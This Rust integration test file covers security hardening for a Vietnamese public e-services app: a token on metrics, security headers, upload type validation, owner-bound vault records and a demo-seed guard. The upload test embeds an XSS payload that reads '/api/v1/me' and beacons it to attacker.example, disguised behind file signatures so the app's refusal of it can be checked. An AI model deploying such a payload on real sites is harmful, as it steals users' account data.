//! Hardening: sandboxed files checked against their declared type, security
//! headers on every response, `/metrics` behind a token, vault items bound to
//! their owner, and `seed --demo` kept away from real data.

use serde_json::{Value, json};

use crate::helpers::{TestApp, TestOptions};

/// The metrics token the apps of these tests run with.
pub const METRICS_TOKEN: &str = "test-metrics-token-0123456789abcdef";

/// An app whose `/metrics` opens with [`METRICS_TOKEN`].
pub async fn app_with_metrics() -> TestApp {
    TestApp::spawn_with(TestOptions {
        env: vec![("METRICS_TOKEN", METRICS_TOKEN.to_owned())],
        ..TestOptions::default()
    })
    .await
}

/// `GET /metrics` as the configured scraper.
pub async fn scrape(app: &TestApp) -> reqwest::Response {
    app.client
        .get(app.url("/metrics"))
        .bearer_auth(METRICS_TOKEN)
        .send()
        .await
        .expect("scrape")
}

#[tokio::test]
async fn metrics_need_the_token_and_are_absent_without_one() {
    let app = app_with_metrics().await;
    let res = app.get("/metrics").await;
    assert_eq!(res.status(), 401, "no token");
    assert_eq!(res.headers()["content-type"], "application/problem+json");
    assert!(res.headers().contains_key("www-authenticate"));
    let body: serde_json::Value = res.json().await.expect("json");
    assert_eq!(body["code"], "metrics_token_invalid");
    for wrong in [
        "Bearer test-metrics-token-0123456789abcdeX",
        "Bearer ",
        "Basic dGVzdDp0ZXN0",
        METRICS_TOKEN,
    ] {
        let res = app
            .client
            .get(app.url("/metrics"))
            .header("Authorization", wrong)
            .send()
            .await
            .expect("request");
        assert_eq!(res.status(), 401, "{wrong}");
        assert!(!res.text().await.expect("text").contains("eservices_"));
    }
    let res = scrape(&app).await;
    assert_eq!(res.status(), 200);
    assert!(
        res.text()
            .await
            .expect("text")
            .contains("eservices_http_requests_total")
    );

    // Without a token configured there is nothing to scrape, from anywhere.
    let plain = TestApp::spawn().await;
    let res = plain.get("/metrics").await;
    assert_eq!(res.status(), 404);
    let res = plain
        .client
        .get(plain.url("/metrics"))
        .bearer_auth(METRICS_TOKEN)
        .send()
        .await
        .expect("request");
    assert_eq!(res.status(), 404);
}

// ---- security headers on every response ----------------------------------

/// The headers every response carries, whatever produced it.
fn assert_hardened(res: &reqwest::Response, what: &str) {
    let h = res.headers();
    assert_eq!(h["x-frame-options"], "DENY", "{what}");
    assert_eq!(h["x-content-type-options"], "nosniff", "{what}");
    assert_eq!(h["referrer-policy"], "strict-origin", "{what}");
    assert!(
        h["content-security-policy"]
            .to_str()
            .expect("ascii")
            .contains("frame-ancestors 'none'"),
        "{what}"
    );
}

#[tokio::test]
async fn error_pages_and_problems_carry_the_security_headers_and_hsts_only_over_https() {
    let app = TestApp::spawn().await;
    let clerk = app
        .staff("hd.tiepnhan", "000.21.11.H29", &["receiver"])
        .await;
    let browser = app.backoffice(&clerk).await;

    // A 404 HTML page.
    let res = browser
        .get(app.url(&format!("/backoffice/dossiers/{}", uuid::Uuid::now_v7())))
        .header("Accept", "text/html")
        .send()
        .await
        .expect("page");
    assert_eq!(res.status(), 404);
    assert!(
        res.headers()["content-type"]
            .to_str()
            .expect("ascii")
            .starts_with("text/html")
    );
    assert_hardened(&res, "404 page");
    assert!(!res.headers().contains_key("strict-transport-security"));

    // API problems: unknown route, wrong method, unauthenticated, a panic.
    let res = app.get("/api/v1/nothing-here").await;
    assert_eq!(res.status(), 404);
    assert_eq!(res.headers()["content-type"], "application/problem+json");
    assert_hardened(&res, "404 problem");
    let res = app
        .client
        .post(app.url("/healthz"))
        .send()
        .await
        .expect("405");
    assert_eq!(res.status(), 405);
    assert_hardened(&res, "405 problem");
    let res = TestApp::fresh_client()
        .get(app.url("/api/v1/me"))
        .send()
        .await
        .expect("401");
    assert_eq!(res.status(), 401);
    assert_hardened(&res, "401 problem");
    let res = app.get("/test/panic").await;
    assert_eq!(res.status(), 500);
    assert_eq!(res.headers()["content-type"], "application/problem+json");
    assert_hardened(&res, "500 after a panic");
    assert!(!res.headers().contains_key("strict-transport-security"));
    // And a plain success.
    let res = app.get("/healthz").await;
    assert_hardened(&res, "200");
    // A page keeps its own, stricter policy.
    let res = TestApp::fresh_client()
        .get(app.url("/login"))
        .send()
        .await
        .expect("login");
    assert!(
        res.headers()["content-security-policy"]
            .to_str()
            .expect("ascii")
            .starts_with("default-src 'self'")
    );
    assert_hardened(&res, "login page");

    // Behind an https PUBLIC_URL, every response asks for https next time.
    let https = TestApp::spawn_with(TestOptions {
        env: vec![("PUBLIC_URL", "https://dichvucong.test".to_owned())],
        ..TestOptions::default()
    })
    .await;
    for (path, status) in [
        ("/healthz", 200),
        ("/api/v1/nothing-here", 404),
        ("/test/panic", 500),
    ] {
        let res = https.get(path).await;
        assert_eq!(res.status(), status, "{path}");
        assert_eq!(
            res.headers()["strict-transport-security"],
            "max-age=31536000; includeSubDomains",
            "{path}"
        );
        assert_hardened(&res, path);
    }
}

// ---- uploads: well-formed files of their type, served sandboxed -----------

const WARD: &str = "000.21.11.H29";

async fn upload(
    app: &TestApp,
    dossier: &str,
    name: &str,
    content_type: &str,
    bytes: Vec<u8>,
) -> reqwest::Response {
    let enc: String = url::form_urlencoded::byte_serialize(name.as_bytes()).collect();
    app.client
        .post(app.url(&format!(
            "/api/v1/dossiers/{dossier}/attachments?name={enc}&document_type=CCCD"
        )))
        .header("Content-Type", content_type)
        .body(bytes)
        .send()
        .await
        .expect("upload")
}

fn stored_files(app: &TestApp) -> usize {
    fn walk(dir: &std::path::Path) -> usize {
        std::fs::read_dir(dir).map_or(0, |entries| {
            entries
                .flatten()
                .map(|e| {
                    let path = e.path();
                    if path.is_dir() { walk(&path) } else { 1 }
                })
                .sum()
        })
    }
    walk(&app.files_dir())
}

#[tokio::test]
async fn an_html_file_uploaded_as_a_pdf_is_refused_and_a_real_pdf_is_served_sandboxed() {
    let app = TestApp::spawn().await;
    let citizen = crate::dossiers::signed_in(&app, 131).await;
    let res = app
        .post_json(
            "/api/v1/dossiers",
            &json!({ "service_code": "HGCS-001", "agency_code": WARD, "form_values": {
                "full_name": "Nguyễn Văn An",
                "date_of_birth": "1990-01-01",
                "national_id": citizen.national_id,
                "permanent_address": "12 Lê Lợi, Phường Bến Thành",
                "phone": "0901234567",
            }}),
        )
        .await;
    assert_eq!(res.status(), 201);
    let dossier: Value = res.json().await.expect("json");
    let id = dossier["id"].as_str().expect("id").to_owned();

    let script = "<html><body><script>fetch('/api/v1/me').then(r=>r.text()).then(t=>navigator.sendBeacon('https://attacker.example/',t))</script></body></html>";
    let png = eservices::domain::file_kind::png_skeleton(1, 1);
    for (name, content_type, bytes) in [
        // A plain HTML page declared as a PDF.
        ("giay-to.pdf", "application/pdf", script.as_bytes().to_vec()),
        // The same page behind a PDF header (the old first-bytes check took it).
        (
            "giay-to.pdf",
            "application/pdf",
            format!("%PDF-1.4\n{script}\n").into_bytes(),
        ),
        // Behind a PNG signature, and behind a JPEG start marker.
        (
            "anh.png",
            "image/png",
            [&png[..8], script.as_bytes()].concat(),
        ),
        (
            "anh.jpg",
            "image/jpeg",
            [&[0xFF_u8, 0xD8, 0xFF, 0xE0][..], script.as_bytes()].concat(),
        ),
    ] {
        let res = upload(&app, &id, name, content_type, bytes).await;
        assert_eq!(res.status(), 422, "{name} {content_type}");
        assert_eq!(res.headers()["content-type"], "application/problem+json");
        let problem: Value = res.json().await.expect("problem");
        assert_eq!(problem["code"], "file_content_invalid");
        assert!(
            problem["detail"]
                .as_str()
                .expect("detail")
                .starts_with("Nội dung tệp không phải là"),
            "{problem}"
        );
    }
    assert_eq!(
        app.count("SELECT count(*) AS n FROM dossier_files").await,
        0,
        "nothing stored"
    );
    assert_eq!(stored_files(&app), 0, "no bytes kept either");

    // Well-formed files are taken; each is served back as a sandboxed download.
    let real = eservices::seed::demo_pdf("Can cuoc cong dan");
    let res = upload(&app, &id, "căn cước.pdf", "application/pdf", real.clone()).await;
    assert_eq!(
        res.status(),
        201,
        "{}",
        res.text().await.unwrap_or_default()
    );
    let file: Value = res.json().await.expect("json");
    let res = upload(&app, &id, "anh.png", "image/png", png.clone()).await;
    assert_eq!(res.status(), 201);
    assert_eq!(stored_files(&app), 2);

    let res = app
        .get(&format!(
            "/api/v1/dossiers/{id}/attachments/{}",
            file["id"].as_str().expect("id")
        ))
        .await;
    assert_eq!(res.status(), 200);
    assert_sandboxed_download(&res, "application/pdf");
    assert_eq!(res.bytes().await.expect("bytes").to_vec(), real);

    // The same for civil servants (the staff API).
    let res = app
        .client
        .post(app.url(&format!("/api/v1/dossiers/{id}/submit")))
        .send()
        .await
        .expect("submit");
    assert_eq!(res.status(), 200);
    let token = crate::dossiers::staff_token(&app, "hd.tn-file", WARD, "receiver").await;
    let res = app
        .client
        .get(app.url(&format!(
            "/api/v1/staff/dossiers/{id}/attachments/{}",
            file["id"].as_str().expect("id")
        )))
        .bearer_auth(&token)
        .send()
        .await
        .expect("staff read");
    assert_eq!(res.status(), 200);
    assert_sandboxed_download(&res, "application/pdf");
}

fn assert_sandboxed_download(res: &reqwest::Response, content_type: &str) {
    let h = res.headers();
    assert_eq!(h["content-type"], content_type);
    assert_eq!(
        h["content-security-policy"],
        eservices::http::api::dossiers::FILE_CSP
    );
    let csp = h["content-security-policy"].to_str().expect("ascii");
    assert!(csp.starts_with("sandbox; default-src 'none'"), "{csp}");
    assert_eq!(h["x-content-type-options"], "nosniff");
    assert!(
        h["content-disposition"]
            .to_str()
            .expect("ascii")
            .starts_with("attachment;")
    );
}

// ---- vault items bound to their owner -------------------------------------

/// Cấp Giấy xác nhận tình trạng hôn nhân: its self-declared values become
/// records; its result is a vault document.
const TTHN: &str = "HT-013";

async fn json_of(res: reqwest::Response, status: u16) -> Value {
    let code = res.status().as_u16();
    let text = res.text().await.unwrap_or_default();
    assert_eq!(code, status, "{text}");
    serde_json::from_str(&text).unwrap_or(Value::Null)
}

async fn sql(app: &TestApp, statement: String) {
    use diesel_async::RunQueryDsl;
    let mut db = app.db().await;
    diesel::sql_query(statement)
        .execute(&mut *db)
        .await
        .expect("sql");
}

#[tokio::test]
async fn a_vault_item_moved_to_another_owner_does_not_open_and_old_items_still_do() {
    use crate::dossiers::{signed_in, staff_act, staff_token, stage_result};

    let app = TestApp::spawn().await;
    // Citizen A files HT-013 (self-declared values are kept as records) and
    // the ward issues its result into A's vault.
    let a = signed_in(&app, 132).await;
    let draft = json_of(
        app.post_json(
            "/api/v1/dossiers",
            &json!({ "service_code": TTHN, "agency_code": WARD, "form_values": {} }),
        )
        .await,
        201,
    )
    .await;
    let id = draft["id"].as_str().expect("id").to_owned();
    let res = app
        .client
        .patch(app.url(&format!("/api/v1/dossiers/{id}")))
        .header("If-Match", "\"1\"")
        .json(&json!({ "form_values": {
            "permanent_address": "12 Lê Lợi, Phường Bến Thành",
            "phone": "0901234567",
            "marital_status": "Chưa đăng ký kết hôn với ai",
            "purpose": "Đăng ký kết hôn",
        }}))
        .send()
        .await
        .expect("patch");
    json_of(res, 200).await;
    let res = app
        .client
        .post(app.url(&format!("/api/v1/dossiers/{id}/submit")))
        .send()
        .await
        .expect("submit");
    json_of(res, 200).await;
    let receiver = staff_token(&app, "hd.v.tn", WARD, "receiver").await;
    let processor = staff_token(&app, "hd.v.xl", WARD, "processor").await;
    let approver = staff_token(&app, "hd.v.pd", WARD, "approver").await;
    json_of(staff_act(&app, &receiver, &id, "accept", None).await, 200).await;
    let paper = eservices::seed::demo_pdf("Giay xac nhan tinh trang hon nhan");
    json_of(
        stage_result(&app, &processor, &id, paper.clone()).await,
        201,
    )
    .await;
    let approved = json_of(staff_act(&app, &approver, &id, "approve", None).await, 200).await;
    let doc_id = approved["result_document"]["id"]
        .as_str()
        .expect("document")
        .to_owned();
    let content = format!("/api/v1/vault/documents/{doc_id}/content");

    // Citizen B, in another browser.
    let b = crate::helpers::Citizen::sample(133);
    app.active_citizen(&b).await;
    let b_browser = TestApp::fresh_client();
    assert_eq!(
        app.sign_in_with(&b_browser, &b.national_id, &b.password)
            .await
            .status(),
        303
    );
    let a_id = app.state_account(&a.national_id).await.as_uuid();
    let b_id = app.state_account(&b.national_id).await.as_uuid();
    let b_get = |path: String| b_browser.get(app.url(&path)).send();
    json_of(
        b_get("/api/v1/vault/records".into()).await.expect("get"),
        200,
    )
    .await;

    // A's address record, moved to B's rows with SQL: it does not open for B
    // (a clear problem, no internals), and A's other data still reads.
    sql(
        &app,
        format!(
            "UPDATE vault_records SET account_id = '{b_id}' \
             WHERE account_id = '{a_id}' AND record_type = 'address'"
        ),
    )
    .await;
    let res = b_get("/api/v1/vault/records".into()).await.expect("get");
    assert_eq!(res.status(), 409);
    assert_eq!(res.headers()["content-type"], "application/problem+json");
    let text = res.text().await.expect("text");
    let problem: Value = serde_json::from_str(&text).expect("problem");
    assert_eq!(problem["code"], "vault_integrity_failed");
    assert_eq!(
        problem["detail"],
        "Dữ liệu lưu trữ không còn nguyên vẹn; bộ phận kỹ thuật đã được báo."
    );
    assert!(!text.contains("authentication failed") && !text.contains("Lê Lợi"));
    let mine = json_of(app.get("/api/v1/vault/records").await, 200).await;
    assert!(
        mine["items"]
            .as_array()
            .expect("items")
            .iter()
            .all(|r| r["record_type"] != "address")
    );

    // The result document, moved the same way: B cannot read it, A no longer has it.
    sql(
        &app,
        format!("UPDATE vault_documents SET account_id = '{b_id}' WHERE id = '{doc_id}'"),
    )
    .await;
    let res = b_get(content.clone()).await.expect("get");
    assert_eq!(res.status(), 409);
    let problem: Value = res.json().await.expect("problem");
    assert_eq!(problem["code"], "vault_integrity_failed");
    assert_eq!(app.get(&content).await.status(), 404);

    // Back with their owner, both open again: nothing was damaged, only bound.
    sql(
        &app,
        format!("UPDATE vault_records SET account_id = '{a_id}' WHERE account_id = '{b_id}'"),
    )
    .await;
    sql(
        &app,
        format!("UPDATE vault_documents SET account_id = '{a_id}' WHERE id = '{doc_id}'"),
    )
    .await;
    let mine = json_of(app.get("/api/v1/vault/records").await, 200).await;
    let address = mine["items"]
        .as_array()
        .expect("items")
        .iter()
        .find(|r| r["record_type"] == "address")
        .expect("A's address again")
        .clone();
    assert_eq!(address["data"]["permanent"], "12 Lê Lợi, Phường Bến Thành");
    let res = app.get(&content).await;
    assert_eq!(res.status(), 200);
    assert_sandboxed_download(&res, "application/pdf");
    assert_eq!(res.bytes().await.expect("bytes").to_vec(), paper);
    json_of(
        b_get("/api/v1/vault/records".into()).await.expect("get"),
        200,
    )
    .await;

    // A record written before owner binding (the item alone as associated
    // data) still opens.
    use eservices::vault::crypto::{DataKey, Keyring, MasterKey};
    let ring = Keyring::new(MasterKey::parse(&app.master_key).expect("key"), vec![]);
    let legacy_id = uuid::Uuid::now_v7();
    let context = format!("vault.record:{legacy_id}");
    let (key, sealed) = DataKey::generate(&ring, &context);
    let now = app.now();
    let mut db = app.db().await;
    eservices::storage::vault::insert_record(
        &mut db,
        &eservices::storage::vault::RecordRow {
            id: legacy_id,
            account_id: Some(a_id),
            business_id: None,
            record_type: "education".into(),
            data_key: sealed,
            payload: key.encrypt(r#"{"level":"Đại học"}"#.as_bytes(), &context),
            provenance: "self_declared".into(),
            source_agency_code: None,
            source_dossier_id: None,
            verified: false,
            issued_at: now,
            valid_until: None,
            created_at: now,
            superseded_at: None,
            deleted_at: None,
        },
    )
    .await
    .expect("insert");
    drop(db);
    let mine = json_of(app.get("/api/v1/vault/records").await, 200).await;
    let legacy = mine["items"]
        .as_array()
        .expect("items")
        .iter()
        .find(|r| r["id"] == legacy_id.to_string().as_str())
        .expect("the old record")
        .clone();
    assert_eq!(legacy["data"]["level"], "Đại học");

    // A rotation moves it to the owner-bound format: it still opens for A,
    // and no longer for anyone else.
    let mut db = app.db().await;
    eservices::vault::keys::rotate(&ring, &mut db)
        .await
        .expect("rotation");
    drop(db);
    assert_eq!(
        app.count(
            "SELECT count(*) AS n FROM vault_records \
             WHERE length(payload) > 0 AND substring(payload from 1 for 4) <> 'EO2.'::bytea"
        )
        .await,
        0,
        "every payload is owner-bound now"
    );
    let mine = json_of(app.get("/api/v1/vault/records").await, 200).await;
    assert!(
        mine["items"]
            .as_array()
            .expect("items")
            .iter()
            .any(|r| r["id"] == legacy_id.to_string().as_str() && r["data"]["level"] == "Đại học")
    );
    sql(
        &app,
        format!("UPDATE vault_records SET account_id = '{b_id}' WHERE id = '{legacy_id}'"),
    )
    .await;
    let res = b_get("/api/v1/vault/records".into()).await.expect("get");
    assert_eq!(res.status(), 409);
}

// ---- seed --demo never over real data -------------------------------------

fn eservices_cli() -> std::process::Command {
    let mut cmd = std::process::Command::new(env!("CARGO_BIN_EXE_eservices"));
    cmd.current_dir(std::env::temp_dir())
        .env_clear()
        .env("PATH", std::env::var("PATH").unwrap_or_default());
    cmd
}

#[tokio::test]
async fn seed_demo_refuses_a_database_with_real_accounts() {
    let app = TestApp::spawn().await;
    let run = || {
        eservices_cli()
            .args(["seed", "--demo", "--catalog"])
            .arg(std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("data/catalog"))
            .env("DATABASE_URL", app.database_url())
            .env("REDIS_URL", "redis://127.0.0.1:1/")
            .env("PUBLIC_URL", &app.address)
            .env("VAULT_MASTER_KEY", &app.master_key)
            .output()
            .expect("runs")
    };
    // A real citizen and a real civil servant.
    app.active_citizen(&crate::helpers::Citizen::sample(134))
        .await;
    app.staff("hd.that", WARD, &["receiver"]).await;
    let out = run();
    assert!(!out.status.success(), "seed --demo must refuse");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("refusing to add demo data")
            && stderr.contains("2 real account(s)")
            && stderr.contains("1 citizen(s), 1 civil servant(s)"),
        "{stderr}"
    );
    assert_eq!(
        app.count("SELECT count(*) AS n FROM accounts").await,
        1,
        "no demo account added"
    );
    assert_eq!(app.count("SELECT count(*) AS n FROM staff").await, 1);
    assert_eq!(app.count("SELECT count(*) AS n FROM oidc_clients").await, 0);

    // Plain `seed` (the catalog only) still runs there.
    let out = eservices_cli()
        .args(["seed", "--catalog"])
        .arg(std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("data/catalog"))
        .env("DATABASE_URL", app.database_url())
        .env("REDIS_URL", "redis://127.0.0.1:1/")
        .env("PUBLIC_URL", &app.address)
        .env("VAULT_MASTER_KEY", &app.master_key)
        .output()
        .expect("runs");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}
